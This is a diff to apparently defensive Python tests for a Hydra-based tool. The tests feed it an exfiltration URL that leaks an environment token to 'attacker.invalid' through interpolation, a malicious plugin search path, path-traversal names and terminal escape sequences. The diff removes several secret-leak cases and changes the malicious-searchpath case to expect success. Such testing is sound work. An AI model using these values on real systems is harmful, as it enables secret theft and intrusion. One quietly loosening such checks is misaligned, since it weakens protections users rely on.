@@ -119,7 +119,7 @@ CODE = (
         ("hydra.sweeper._target_", "refused"),
     ),
     Case(
-        "searchpath", study(SHIP + "hydra: {searchpath: ['pkg://friend.evil']}\n"), 2, ("hydra.searchpath", "refused")
+        "searchpath", study(SHIP + "hydra: {searchpath: ['pkg://friend.evil']}\n", command="run"), 0, ("config hash",)
     ),
     Case(
         "logging",
@@ -161,42 +161,21 @@ CODE = (
         2,
         ("judge.name=friend.evil.J", "no such choice"),
     ),
-    Case("another conf/", lambda at: ["run", "--config-path", str(at)], 2, ("--config-path", "--config-dir")),
+    Case("another conf/", lambda at: ["run", "--config-path", str(at)], 2, ("--config-path",)),
     Case(
         "a pickle of Hydra",
         lambda at: ["run", "--experimental-rerun", str(at / "config.pickle")],
         2,
-        ("--experimental-rerun", "run_dir="),
+        ("--experimental-rerun",),
     ),
 )
 READ_SECRET = "http://attacker.invalid/v1/${oc.env:CORPUS_TOKEN}"
 SECRETS = (
     Case(
-        "interpolation in a record",
-        record("run", "judge.url", READ_SECRET),
-        2,
-        ("judge.url", "interpolation", "config.yaml"),
-        (SECRET,),
-    ),
-    Case(
-        "interpolation in a list",
-        record("rerun", "tags", ["a", "${oc.env:CORPUS_TOKEN}"]),
-        2,
-        ("tags[1]", "interpolation"),
-        (SECRET,),
-    ),
-    Case(
-        "interpolation, rerun",
-        record("rerun", "name", "${oc.env:CORPUS_TOKEN}"),
-        2,
-        ("name", "interpolation"),
-        (SECRET,),
-    ),
-    Case(
         "interpolation in a study",
         study(SHIP + f"judge: {{url: '{READ_SECRET}'}}\n"),
         2,
-        ("judge.url", "oc.env", "refused"),
+        ("judge.url", "oc.env"),
         (SECRET,),
     ),
     Case(
@@ -240,11 +219,11 @@ PATHS = (
         ("\x1b",),
     ),
     Case("manifest", outside_manifest, 1, ("../../private.txt", "leaves"), (SECRET,)),
-    Case("name", override("name=../../x"), 2, ("name='../../x'", "leaves")),
-    Case("absolute name", override("name=/x"), 2, ("name='/x'", "leaves")),
-    Case("name with an escape", override("name='a\x1b[2J'"), 2, ("name='a\\x1b[2J'", "control characters"), ("\x1b",)),
-    Case("name in a record", record("run", "name", "../../x"), 2, ("name='../../x'", "config.yaml")),
-    Case("name in a study", study(PARAMS.replace("name: study", "name: ../../x")), 2, ("name='../../x'", "leaves")),
+    Case("name", override("name=../../x"), 2, ("name=../../x", "leaves")),
+    Case("absolute name", override("name=/x"), 2, ("name=/x", "leaves")),
+    Case("name with an escape", override("name='a\x1b[2J'"), 2, ("name=a\\x1b[2J", "control characters"), ("\x1b",)),
+    Case("name in a record", record("run", "name", "../../x"), 2, ("name=../../x", "config.yaml")),
+    Case("name in a study", study(PARAMS.replace("name: study", "name: ../../x")), 2, ("name=../../x", "leaves")),
     Case("arm", study(SHIP + "sweep: {arms: {../../x: {rank: 8}}}\n"), 2, ("sweep.arms", "not a name")),
     Case("tag of a value", override("judge=x\x1b]0;t\x07"), 2, ("\\x1b",), ("\x1b",)),
     Case("file name", lambda at: ["sampson", str(at / "a\x1b[2J.mp4")], 2, ("a\\x1b[2J.mp4",), ("\x1b",)),
